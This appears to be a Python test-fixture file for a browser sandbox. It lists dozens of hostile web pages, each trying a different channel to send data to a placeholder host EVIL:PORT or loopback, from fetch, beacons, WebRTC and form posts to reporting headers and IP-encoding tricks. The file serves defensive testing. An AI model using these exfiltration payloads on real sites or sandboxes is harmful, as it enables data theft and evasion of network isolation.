"""Hostile pages: each tries one way out. `EVIL` is a stranger's host name, `PORT` the port of the attack's own trap.

The stranger's name leads to 127.0.0.1 in the control, and nowhere behind the wall. Plain http goes to loopback
addresses (they count as secure contexts, so nothing is stopped as mixed content); names get https.
"""

# ruff: noqa: E501 - a page reads best on one line

from __future__ import annotations

from collections.abc import Sequence
from dataclasses import dataclass


@dataclass(frozen=True)
class Attack:
    """`body` is the page; `extra` are pages beside it: path -> (body, headers)."""

    body: str
    headers: Sequence[tuple[str, str]] = ()
    extra: tuple[tuple[str, str, tuple[tuple[str, str], ...]], ...] = ()
    click: bool = False
    """The element `#go` is clicked: what only a person's click may do."""
    silent: bool = False
    """Sends nothing in the control either (Chromium 156): only behind the wall it is shown that nothing comes."""


def _script(code: str) -> str:
    return f"<script>{code}</script>"


_JS = (("Content-Type", "text/javascript"),)
_CSS = (("Content-Type", "text/css"),)
_ICE = (
    "const p = new RTCPeerConnection({iceServers: [%s]}); p.createDataChannel('x');"
    " p.createOffer().then(o => p.setLocalDescription(o));"
)
# An answer with a candidate at an IP literal: connectivity checks go there without any server.
_CANDIDATE = """
const p = new RTCPeerConnection(); p.createDataChannel('x');
const q = new RTCPeerConnection(); q.ondatachannel = () => 0;
(async () => {
  await p.setLocalDescription(await p.createOffer()); await q.setRemoteDescription(p.localDescription);
  await q.setLocalDescription(await q.createAnswer());
  await p.setRemoteDescription({type: 'answer', sdp: q.localDescription.sdp.replace(/a=candidate.*\\r\\n/g, '')});
  await p.addIceCandidate({candidate: 'candidate:1 1 %s', sdpMid: '0', sdpMLineIndex: 0});
})();
"""
_RULES = '<script type="speculationrules">{"%s": [{"source": "list", "urls": ["%s"], "eagerness": "immediate"}]}</script>'

ATTACKS: dict[str, Attack] = {
    "fetch": Attack(_script("fetch('https://EVIL:PORT/', {mode: 'no-cors'})")),
    "fetch_ip": Attack(_script("fetch('http://127.0.0.1:PORT/', {mode: 'no-cors'})")),
    "fetch_ip6": Attack(_script("fetch('http://[::1]:PORT/', {mode: 'no-cors'})")),
    "fetch_decimal_ip": Attack(_script("fetch('http://2130706433:PORT/', {mode: 'no-cors'})")),
    "fetch_octal_ip": Attack(_script("fetch('http://0177.0.0.1:PORT/', {mode: 'no-cors'})")),
    "fetch_hexadecimal_ip": Attack(_script("fetch('http://0x7f.1:PORT/', {mode: 'no-cors'})")),
    "fetch_mapped_ip6": Attack(_script("fetch('https://[::ffff:127.0.0.1]:PORT/', {mode: 'no-cors'})")),
    "fetch_localhost": Attack(_script("fetch('http://localhost:PORT/', {mode: 'no-cors'})")),
    "fetch_under_localhost": Attack(_script("fetch('http://secret.localhost:PORT/', {mode: 'no-cors'})")),
    "fetch_keepalive": Attack(_script("fetch('https://EVIL:PORT/', {mode: 'no-cors', keepalive: true, method: 'POST', body: 'x'})")),
    "xhr": Attack(_script("const x = new XMLHttpRequest(); x.open('POST', 'https://EVIL:PORT/'); x.send('secret')")),
    "beacon": Attack(_script("navigator.sendBeacon('https://EVIL:PORT/', 'secret')")),
    "image_script": Attack(_script("document.write('<script src=https://EVIL:PORT/a.js><\\/script>')")),
    "video": Attack('<video src="https://EVIL:PORT/a.mp4" preload=auto autoplay muted></video>'),
    "object": Attack('<object data="https://EVIL:PORT/a.html" type="text/html"></object>'),
    "embed": Attack('<embed src="https://EVIL:PORT/a.html" type="text/html">'),
    "track": Attack('<video src=/v preload=none crossorigin><track default src="https://EVIL:PORT/a.vtt"></video>'
                    + _script("onload = () => { document.querySelector('track').track.mode = 'showing' }")),
    "iframe": Attack('<iframe src="https://EVIL:PORT/"></iframe>'),
    "srcdoc_frame": Attack("<iframe srcdoc=\"<script src='https://EVIL:PORT/a.js'></script>\"></iframe>"),
    "data_frame": Attack("<iframe src=\"data:text/html,<script src='https://EVIL:PORT/a.js'></script>\"></iframe>"),
    "blob_frame": Attack(_script(
        "const f = document.createElement('iframe');"
        "f.src = URL.createObjectURL(new Blob([\"<script src='https://EVIL:PORT/a.js'><\\/script>\"], {type: 'text/html'}));"
        "document.documentElement.append(f)")),
    "stylesheet": Attack('<link rel=stylesheet href="https://EVIL:PORT/a.css">'),
    "css_import": Attack("<style>@import url(https://EVIL:PORT/a.css);</style>"),
    "css_font": Attack("<style>@font-face{font-family:f;src:url(https://EVIL:PORT/a.woff2)} body{font-family:f}</style>text"),
    "css_attribute": Attack('<link rel=stylesheet href="/css_attribute/a.css"><input id=go value=secret>',
                            extra=(("/a.css", "@import url(https://EVIL:PORT/leak);", _CSS),)),
    "preconnect": Attack('<link rel=preconnect href="https://EVIL:PORT/">'),
    "preload": Attack('<link rel=preload as=script href="https://EVIL:PORT/a.js">'),
    "modulepreload": Attack('<link rel=modulepreload href="https://EVIL:PORT/a.js">'),
    "early_header": Attack("", headers=(("Link", "<https://EVIL:PORT/a.js>; rel=preload; as=script"),)),
    "prefetch": Attack('<link rel=prefetch href="https://EVIL:PORT/a">'),
    "dns_prefetch": Attack('<link rel=dns-prefetch href="https://EVIL:PORT/">', silent=True),
    "speculation_prefetch": Attack(_RULES % ("prefetch", "https://EVIL:PORT/a")),
    "speculation_prerender": Attack(_RULES % ("prerender", "https://EVIL:PORT/a"), silent=True),
    "manifest": Attack('<link rel=manifest href="https://EVIL:PORT/a.json">', silent=True),
    "favicon": Attack('<link rel=icon href="https://EVIL:PORT/a.ico">', silent=True),
    "websocket": Attack(_script("new WebSocket('wss://EVIL:PORT/')")),
    "websocket_ip": Attack(_script("new WebSocket('ws://127.0.0.1:PORT/')")),
    "webtransport": Attack(_script("new WebTransport('https://127.0.0.1:PORT/').ready.catch(() => 0)")),
    "webtransport_name": Attack(_script("new WebTransport('https://EVIL:PORT/').ready.catch(() => 0)")),
    "stun_udp": Attack(_script(_ICE % "{urls: 'stun:127.0.0.1:PORT'}")),
    "stun_udp6": Attack(_script(_ICE % "{urls: 'stun:[::1]:PORT'}"), silent=True),
    "stun_name": Attack(_script(_ICE % "{urls: 'stun:EVIL:PORT'}"), silent=True),
    "turn_udp": Attack(_script(_ICE % "{urls: 'turn:127.0.0.1:PORT', username: 'u', credential: 'c'}")),
    "turn_tcp": Attack(_script(_ICE % "{urls: 'turn:127.0.0.1:PORT?transport=tcp', username: 'u', credential: 'c'}")),
    "turn_tls": Attack(_script(_ICE % "{urls: 'turns:EVIL:PORT?transport=tcp', username: 'u', credential: 'c'}")),
    "ice_udp": Attack(_script(_CANDIDATE % "udp 2130706431 127.0.0.1 PORT typ host")),
    "ice_tcp": Attack(_script(_CANDIDATE % "tcp 1518280447 127.0.0.1 PORT typ host tcptype passive")),
    "event_source": Attack(_script("new EventSource('https://EVIL:PORT/')")),
    "worker": Attack(_script("new Worker('/worker/w.js')"),
                     extra=(("/w.js", "fetch('https://EVIL:PORT/', {mode: 'no-cors'})", _JS),)),
    "import_scripts": Attack(_script("new Worker('/import_scripts/w.js')"),
                             extra=(("/w.js", "importScripts('https://EVIL:PORT/a.js')", _JS),)),
    "shared_worker": Attack(_script("new SharedWorker('/shared_worker/w.js')"),
                            extra=(("/w.js", "fetch('https://EVIL:PORT/', {mode: 'no-cors'})", _JS),)),
    "dynamic_import": Attack(_script("import('https://EVIL:PORT/a.js').catch(() => 0)")),
    "service_worker": Attack(
        _script("navigator.serviceWorker.register('/service_worker/w.js', {scope: '/service_worker/'})"),
        extra=(("/w.js", "oninstall = e => e.waitUntil(fetch('https://EVIL:PORT/', {mode: 'no-cors'}).catch(() => 0))", _JS),)),
    "worklet": Attack(_script("new AudioContext().audioWorklet.addModule('https://EVIL:PORT/a.js').catch(() => 0)")),
    "form": Attack('<form method=post action="https://EVIL:PORT/"><input name=p value=secret></form>'
                   + _script("document.forms[0].submit()")),
    "form_into_frame": Attack('<iframe name=f></iframe><form method=post target=f action="https://EVIL:PORT/">'
                              '<input name=p value=secret></form>' + _script("document.forms[0].submit()")),
    "meta_refresh": Attack('<meta http-equiv=refresh content="0;url=https://EVIL:PORT/?secret">'),
    "refresh_header": Attack("", headers=(("Refresh", "0;url=https://EVIL:PORT/"),)),
    "location": Attack(_script("location = 'https://EVIL:PORT/?secret'")),
    "location_ip": Attack(_script("location = 'http://127.0.0.1:PORT/?secret'")),
    "userinfo": Attack(_script("location = 'https://www.site.test:x@EVIL:PORT/'")),
    "redirect": Attack(_script("fetch('/redirect/away', {mode: 'no-cors'})"), extra=(("/away", "302", (("Location", "https://EVIL:PORT/"),)),)),
    "redirect_frame": Attack('<iframe src="/redirect_frame/away"></iframe>',
                             extra=(("/away", "307", (("Location", "http://127.0.0.1:PORT/"),)),)),
    "popup": Attack('<button id=go onclick="window.open(\'https://EVIL:PORT/\')">x</button>', click=True),
    "link_ping": Attack('<a id=go href="#x" ping="https://EVIL:PORT/">x</a>', click=True),
    "link_blank": Attack('<a id=go target=_blank href="https://EVIL:PORT/">x</a>', click=True),
    "download": Attack('<a id=go download href="https://EVIL:PORT/a.zip">x</a>', click=True),
    "csp_report": Attack(_script("document.write('<script src=https://www.site.test/no.js><\\/script>')"), headers=(
        ("Content-Security-Policy", "script-src 'unsafe-inline' 'nonce-x'; report-uri https://EVIL:PORT/"),)),
    "reporting_api": Attack(_script("document.write('<script src=https://www.site.test/no.js><\\/script>')"), headers=(
        ("Reporting-Endpoints", 'e="https://EVIL:PORT/"'),
        ("Content-Security-Policy", "script-src 'unsafe-inline' 'nonce-x'; report-to e"),), silent=True),
    "network_error_logging": Attack(_script("fetch('/missing')"), headers=(
        ("Report-To", '{"group":"g","max_age":600,"endpoints":[{"url":"https://EVIL:PORT/"}]}'),
        ("NEL", '{"report_to":"g","max_age":600,"success_fraction":1}')), silent=True),
    "alternative_service": Attack(_script("setTimeout(() => fetch('/x'), 300)"), headers=(
        ("Alt-Svc", 'h3="EVIL:PORT"; ma=600'),), silent=True),
    "alternative_service_ip": Attack(_script("setTimeout(() => fetch('/x'), 300)"), headers=(
        ("Alt-Svc", 'h3="127.0.0.1:PORT"; ma=600'),), silent=True),
    "xslt_or_svg": Attack('<svg><use href="https://EVIL:PORT/a.svg#x"></use><image href="https://EVIL:PORT/a.svg"/></svg>', silent=True),
    "image": Attack('<img src="https://EVIL:PORT/a.png">'),
    "fetch_later": Attack(_script("self.fetchLater && fetchLater('https://EVIL:PORT/', {activateAfter: 0})"), silent=True),
    "view_source": Attack(_script("open('view-source:https://EVIL:PORT/')"), silent=True),
}
